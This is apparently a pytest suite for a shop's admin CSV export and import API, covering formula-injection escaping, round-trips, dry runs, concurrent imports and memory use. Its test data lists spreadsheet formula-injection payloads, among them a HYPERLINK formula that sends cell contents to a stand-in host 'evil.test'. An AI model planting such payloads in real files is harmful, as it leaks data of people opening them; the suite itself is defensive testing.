"""Products and orders as spreadsheets have them, out and in (section 8). Python's own csv module, in
its strict mode, reads what comes out."""
import csv
import decimal
import io
import json
import re
import secrets
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest

from data import naughty_strings
from http_client import Client, make_client, send_raw
from instance import wait_until
from test_naughty_strings import Refused, as_stored

EXPORT = "/api/admin/backup?action=export-%s-csv"
IMPORT = "/api/admin/backup?action=import-products-csv"
HOSTILE = [
    "=HYPERLINK(\"http://evil.test/?\"&A1)",
    "+1;-1",
    "-2+3",
    "@SUM(A1)",
    "'=1",
    "''hello",
    "'hello",
    "x;=1+1",
    'a";"=1+1',
    "\uff1d1\uff0b1",
    '","=1',
    'say "hi"',
    ",",
    ";",
    '"',
    "'",
    "\ufeffx",
]


def exported(admin, what):
    """The records of an export, header first."""
    answer = admin.get(EXPORT % what)
    assert answer.status == 200, answer
    assert answer.headers.get_content_type() == "text/csv"
    assert answer.headers.get_content_charset() == "utf-8"
    assert re.fullmatch(
        rf'attachment; filename="{what}-\d{{4}}-\d\d-\d\dT\d{{6}}Z\.csv"',
        answer.headers["Content-Disposition"],
    )
    text = answer.body.decode("utf-8")
    assert text.startswith("\ufeff") and text.endswith("\r\n")
    records = list(csv.reader(io.StringIO(text[1:], newline=""), strict=True))
    assert {len(record) for record in records} == {len(records[0])}
    return records


def rows_of(records):
    """The rows by the header's names."""
    return [dict(zip(records[0], record)) for record in records[1:]]


def saved(records, separator=",", end="\r\n", quoting=csv.QUOTE_MINIMAL):
    """A file as a spreadsheet would save it."""
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=separator, lineterminator=end, quoting=quoting).writerows(records)
    return file.getvalue().encode()


def send(client, body, query="", **headers):
    """Imports a file, given as bytes or as records."""
    body = body if isinstance(body, bytes) else saved(body)
    return client.post(IMPORT + query, body, headers={"Content-Type": "text/csv", **headers})


def outcomes(answer):
    assert answer.status == 200, answer
    return [row["outcome"] for row in answer.json["rows"]]


def as_cell(value):
    """What a value of the API is in a file, texts apart."""
    return {None: "", True: "true", False: "false"}.get(value, value)


@pytest.fixture(scope="module")
def hostile(admin):
    """Products with every text that could hurt a spreadsheet or its reader."""
    wanted = []
    for text in HOSTILE + naughty_strings():
        try:
            fields = {
                "name": as_stored(text, 200, needed=True),
                "category": as_stored(text, 100),
                "description": as_stored(f"{text}\n{text}\t{text}", 10000, lines=True),
            }
        except Refused:
            continue
        wanted.append({**fields, "sku": as_stored(text[:60] + secrets.token_hex(8), 100)})
    assert len(wanted) > 400
    with ThreadPoolExecutor(8) as threads:
        made = threads.map(lambda fields: admin.product(stock=2.5, price=19.9, **fields), wanted)
        return sorted(made, key=lambda product: product["id"])


def test_an_export_has_what_the_list_has(admin, hostile):
    records = exported(admin, "products")
    assert records[0] == list(hostile[0])
    listed = admin.get("/api/products").body.decode()
    archived = admin.get("/api/products?archived=true").body.decode()
    expected = {
        str(product["id"]): product
        for text in (listed, archived)
        for product in json.loads(text, parse_float=str, parse_int=str)
    }
    rows = rows_of(records)
    assert [row["id"] for row in rows] == sorted(expected, key=int)
    texts = {"name", "sku", "category", "description"}
    for row in rows:
        product = expected[row["id"]]
        for name, value in product.items():
            if name not in texts:
                assert row[name] == as_cell(value), (name, row)
            elif row[name] != (value or ""):
                assert row[name].replace("'", "") == value.replace("'", ""), (name, row)


def test_no_cell_is_a_formula_for_whatever_separator(admin, hostile):
    body = admin.get(EXPORT % "products").body.decode("utf-8")[1:]
    for separator in ",;\t":
        for record in csv.reader(io.StringIO(body, newline=""), delimiter=separator):
            for cell in record:
                for line in cell.split("\n") if separator != "," else [cell]:
                    seen = line.lstrip(' "')
                    assert not seen.startswith(tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")), record


@pytest.mark.parametrize("separator", [",", ";"])
def test_what_goes_out_comes_back_unchanged(shop, admin, hostile, separator):
    records = exported(admin, "products")
    before = shop.value("select max(id) from smartflow.audit_log")
    if separator == ";":  # as a spreadsheet of another country saves it
        numbers = [records[0].index(name) for name in ("stock", "minStock", "price")]
        for record in records[1:]:
            for column in numbers:
                record[column] = record[column].replace(".", ",")
            record[records[0].index("archived")] = record[records[0].index("archived")].upper()
    body = "\ufeff".encode() + saved(records, separator, "\n", csv.QUOTE_ALL)
    for query in ("&dryRun=true", "", "&stock=set"):
        answer = send(admin, body, query)
        assert set(outcomes(answer)) == {"unchanged"}
        assert answer.json["counts"]["unchanged"] == len(records) - 1
    assert shop.value("select max(id) from smartflow.audit_log") == before


def test_the_same_texts_make_the_same_products(admin, hostile):
    columns = ["name", "category", "description", "stock", "minStock", "price"]
    mine = {str(product["id"]) for product in hostile}
    records = exported(admin, "products")
    rows = [row for row in rows_of(records) if row["id"] in mine]
    answer = send(admin, [columns, *([row[name] for name in columns] for row in rows)])
    assert set(outcomes(answer)) == {"create"}
    for row, product in zip(answer.json["rows"], hostile):
        copy = admin.get(f"/api/products/{row['id']}").json
        assert all(copy[name] == product[name] for name in columns), (copy, product)


def test_the_orders_total_can_be_summed(shop, admin):
    first, second = (admin.product(stock=100, price=p, name=n) for p, n in ((1.05, "=1"), (2, "b")))
    items = [
        {"productId": first["id"], "quantity": 2.5},
        {"productId": second["id"], "quantity": 1},
        {"productId": first["id"], "quantity": 1, "price": 3},
    ]
    order = admin.post(
        "/api/orders",
        {"customerName": "@Ann, \"A\"", "customerEmail": "-a@b", "items": items, "notes": "+x\n=y"},
    ).json
    records = exported(admin, "orders")
    assert records[0] == (
        "orderId,status,customerName,customerEmail,line,productId,productName,quantity,price,lineTotal,"
        "orderTotal,notes,assignedTo,stockReduced,createdAt,updatedAt,completedAt"
    ).split(",")
    rows = rows_of(records)
    mine = [row for row in rows if row["orderId"] == str(order["id"])]
    assert [
        (row["line"], row["productName"], row["quantity"], row["price"], row["lineTotal"], row["orderTotal"])
        for row in mine
    ] == [
        ("1", "'=1", "2.5", "1.05", "2.63", "7.63"),
        ("2", "b", "1", "2.00", "2.00", ""),
        ("3", "'=1", "1", "3.00", "3.00", ""),
    ]
    assert {(row["customerName"], row["customerEmail"], row["notes"]) for row in mine} == {
        ("'@Ann, \"A\"", "'-a@b", "'+x\n'=y")
    }
    assert sum(decimal.Decimal(row["orderTotal"] or 0) for row in rows) == shop.value(
        "select sum(total) from smartflow.orders"
    )


def test_an_export_is_on_record(shop, admin):
    for what in ("products", "orders"):
        head = admin.ask("HEAD", EXPORT % what)
        assert (head.status, head.body) == (200, b"")
        exported(admin, what)
    rows = shop.query(
        "select action, entity, changes #>> '{what,to}' from smartflow.audit_log"
        " where user_id = %s and action = 'export' order by id desc limit 2",
        (admin.user_id,),
    )
    assert rows == [("export", "backup", "orders-csv"), ("export", "backup", "products-csv")]


def test_a_dry_run_foretells_the_real_one(shop, admin):
    one = admin.product(sku=secrets.token_hex(8), category="c")
    new = secrets.token_hex(8)
    records = [
        ["id", "sku", "name", "category", "stock", "minStock", "price"],
        [one["id"], one["sku"], "Renamed", "", "", 0, "2.5"],
        ["", new, "New", "c", 1, 2, 3],
    ]
    state = "select md5(string_agg(p::text || i::text, '' order by p.id)) from smartflow.products p"
    state += " join smartflow.inventory i on i.product_id = p.id"
    before = shop.value(state)
    dry = send(admin, records, "&dryRun=true")
    assert outcomes(dry) == ["update", "create"] and dry.json["dryRun"] is True
    assert shop.value(state) == before
    wet = send(admin, records).json
    created = wet["rows"][1]["id"]
    wet["rows"][1]["id"] = None
    assert wet == {**dry.json, "dryRun": False}
    assert admin.get(f"/api/products/{created}").json["sku"] == new
    assert admin.get(f"/api/products/{one['id']}").json["category"] is None
    assert set(outcomes(send(admin, records, "&dryRun=true"))) == {"unchanged"}


def test_a_hundred_reasons_are_listed_and_the_rest_counted(admin):
    answer = send(admin, [["id"], *([2**62 + n] for n in range(250))])
    assert answer.code == "VALIDATION_ERROR"
    details = answer.json["details"]
    assert details.pop("more") == "There are 150 more."
    assert details == {
        f"line {n}: id": "is no product's; leave it empty to create one" for n in range(2, 102)
    }
    dry = send(admin, [["id"], *([2**62 + n] for n in range(250))], "&dryRun=true")
    assert dry.json["counts"]["error"] == 250 == len(dry.json["rows"])


def test_a_file_that_ends_early_changes_nothing(shop, admin):
    name = secrets.token_hex(8)
    body = f"name,stock,minStock,price\n{name},1,0,1\n".encode()
    head = (
        f"POST {IMPORT} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {admin.token}\r\n"
        f"Content-Type: text/csv\r\nContent-Length: {len(body) + 10}\r\nConnection: close\r\n\r\n"
    )
    send_raw(shop, head.encode() + body, seconds=1)
    assert shop.value("select count(*) from smartflow.products where name = %s", (name,)) == 0


def test_two_imports_of_the_same_new_skus_make_them_once(admin):
    prefix = secrets.token_hex(4)
    records = [["sku", "name", "stock", "minStock", "price"]]
    records += [[f"{prefix}-{n}", "x", 1, 0, 1] for n in range(100)]
    answers = []

    def run(part):
        answers.append(send(Client(admin.instance, admin.token), part))

    threads = [
        threading.Thread(target=run, args=(part,))
        for part in (records, [records[0], *reversed(records[1:])])
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(set(outcomes(answer)).pop() for answer in answers) == ["create", "unchanged"]


def test_the_shop_sells_and_is_edited_while_files_come_in(shop, admin):
    before = shop.value("select deadlocks from pg_stat_database where datname = current_database()")
    products = [admin.product(stock=1000, price=1)["id"] for _ in range(40)]
    done = threading.Event()
    statuses = []

    def sell(offset):
        client = make_client(shop)
        for n in range(10_000):
            if done.is_set():
                return
            chosen = [products[(offset + n * 7 + k * 11) % 40] for k in range(3)]
            answer = client.post(
                "/api/orders",
                {"customerName": "A", "items": [{"productId": p, "quantity": 1} for p in chosen]},
            )
            statuses.append(answer.status)
            edit = client.patch(f"/api/products/{chosen[0]}", {"category": str(n)})
            statuses.append(edit.status)

    sellers = [threading.Thread(target=sell, args=(offset,)) for offset in range(4)]
    for seller in sellers:
        seller.start()
    try:
        for price in range(2, 8):
            answer = send(admin, [["id", "price", "minStock"], *([p, price, price] for p in products)])
            assert set(outcomes(answer)) == {"update"}
    finally:
        done.set()
        for seller in sellers:
            seller.join()
    assert len(statuses) > 20 and set(statuses) <= {200, 201}, statuses
    assert before == shop.value(
        "select deadlocks from pg_stat_database where datname = current_database()"
    )
    assert [] == shop.query(
        """
        select * from smartflow.inventory i join smartflow.products p on p.id = i.product_id
         where product_id = any (%s)
           and (p.price <> 7 or i.min_stock <> 7
                or on_hand <> (select sum(delta) from smartflow.movements m
                                where m.product_id = i.product_id)
                or reserved <> (select coalesce(sum(quantity), 0)
                                  from smartflow.order_lines l
                                  join smartflow.orders o on o.id = l.order_id
                                 where l.product_id = i.product_id and not o.stock_reduced))""",
        (products,),
    )


class Racer:
    """An import that waits for what an open transaction of somebody else holds."""

    def __init__(self, shop, admin, statements, records):
        self.other = shop.connect()
        self.other.autocommit = False
        with self.other.cursor() as cursor:
            for statement, arguments in statements:
                cursor.execute(statement, arguments)
        self.answer = None
        client = Client(shop, admin.token)
        self.thread = threading.Thread(target=lambda: self.run(client, records))
        self.thread.start()
        waiting = "select count(*) from pg_stat_activity where wait_event_type = 'Lock'"
        waiting += " and query like '%%admin_backup_import%%'"
        wait_until(lambda: shop.value(waiting), 20, "the import waits")

    def run(self, client, records):
        self.answer = send(client, records)

    def finish(self):
        self.other.commit()
        self.thread.join()
        self.other.close()
        return outcomes(self.answer)


def test_a_product_that_comes_meanwhile_is_changed_not_made_twice(shop, admin):
    sku = secrets.token_hex(8)
    made = "with made as (insert into smartflow.products (name, sku, price) values ('a', %s, 1)"
    made += " returning id) insert into smartflow.inventory (product_id, on_hand, min_stock)"
    made += " select id, 5, 0 from made"
    records = [["sku", "name", "stock", "minStock", "price"], [sku, "b", 1, 0, 1]]
    assert Racer(shop, admin, [(made, (sku,))], records).finish() == ["update"]
    found = admin.get(f"/api/products?search={sku}").json
    assert [(product["name"], product["stock"]) for product in found] == [("b", 5)]


def test_a_product_that_changes_meanwhile_is_judged_anew(shop, admin):
    held, changed = admin.product(), admin.product(name="as in the file")
    lock = "select from smartflow.inventory where product_id = %s for update"
    records = [["id", "name"], [held["id"], "new"], [changed["id"], "as in the file"]]
    racer = Racer(shop, admin, [(lock, (held["id"],))], records)
    assert admin.patch(f"/api/products/{changed['id']}", {"name": "other"}).status == 200
    assert racer.finish() == ["update", "update"]
    assert admin.get(f"/api/products/{changed['id']}").json["name"] == "as in the file"


@pytest.mark.slow
def test_large_files_pass_in_constant_memory(shop, admin):
    tag = secrets.token_hex(4)
    records = [["sku", "name", "description", "stock", "minStock", "price"]]
    records += [[f"{tag}-{n}", "x", "d" * 5000, 1, 0, 1] for n in range(20_000)]
    body = saved(records)
    assert len(body) > 100_000_000
    admin.close()
    client = Client(shop, admin.token)
    client.connection().timeout = 600
    family = shop.family("admin_backup")

    def resident():
        with open(f"/proc/{family}/status", encoding="ascii") as status:
            return int(re.search(r"VmHWM:\s+(\d+)", status.read())[1])

    before = resident()
    assert set(outcomes(send(client, body, "&dryRun=true"))) == {"create"}
    assert resident() - before < 50_000  # kB; the answer is two thousand
    assert outcomes(send(client, records[:2])) == ["create"]
